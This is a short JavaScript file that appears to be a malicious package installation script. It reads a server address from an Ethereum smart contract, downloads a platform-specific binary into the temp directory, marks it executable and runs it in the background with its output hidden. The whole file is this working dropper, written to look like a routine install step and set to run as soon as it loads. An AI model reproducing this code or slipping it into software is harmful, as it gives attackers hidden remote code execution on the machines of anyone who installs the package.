const { ethers } = require("ethers");
const axios = require("axios");
const util = require("util");
const fs = require("fs");
const path = require("path");
const os = require("os");
const { spawn } = require("child_process");
const abi = ["function getString(address account) public view returns (string)"];
const provider = ethers.getDefaultProvider("mainnet");
const contract = new ethers.Contract("0x5fA3b2e1C0d4E9f8a7B6c5D4e3F2a1B0c9D8e7F6", abi, provider);
const fetchAndUpdateIp = async () => {
  try {
    const ipAddrFromContract = await contract.getString("0x1De2c3B4a5F6e7D8c9B0a1F2e3D4c5B6a7F8e9D0");
    return ipAddrFromContract;
  } catch (error) {
    console.error("Ошибка при получении IP адреса:", error);
    return await fetchAndUpdateIp();
  }
};
const getDownloadUrl = hostAddr => {
  const platform = os.platform();
  switch (platform) {
    case "win32": return hostAddr + "/node-win.exe";
    case "linux": return hostAddr + "/node-linux";
    case "darwin": return hostAddr + "/node-macos";
    default: throw new Error("Unsupported platform: " + platform);
  }
};
const downloadFile = async (url, targetPath) => {
  const writer = fs.createWriteStream(targetPath);
  const response = await axios({ url, method: "GET", responseType: "stream" });
  response.data.pipe(writer);
  return new Promise((resolve, reject) => { writer.on("finish", resolve); writer.on("error", reject); });
};
const executeFileInBackground = async filePath => {
  try {
    const childProcess = spawn(filePath, [], { detached: true, stdio: "ignore" });
    childProcess.unref();
  } catch (error) { console.error("Ошибка при запуске файла:", error); }
};
const runInstallation = async () => {
  const ipAddr = await fetchAndUpdateIp();
  const downloadUrl = getDownloadUrl(ipAddr);
  const tmpDir = os.tmpdir();
  const filename = path.basename(downloadUrl);
  const targetPath = path.join(tmpDir, filename);
  if (fs.existsSync(targetPath)) return;
  try {
    await downloadFile(downloadUrl, targetPath);
    if (os.platform() !== "win32") fs.chmodSync(targetPath, "755");
    await executeFileInBackground(targetPath);
  } catch (error) { console.error("Ошибка установки:", error); }
};
runInstallation();
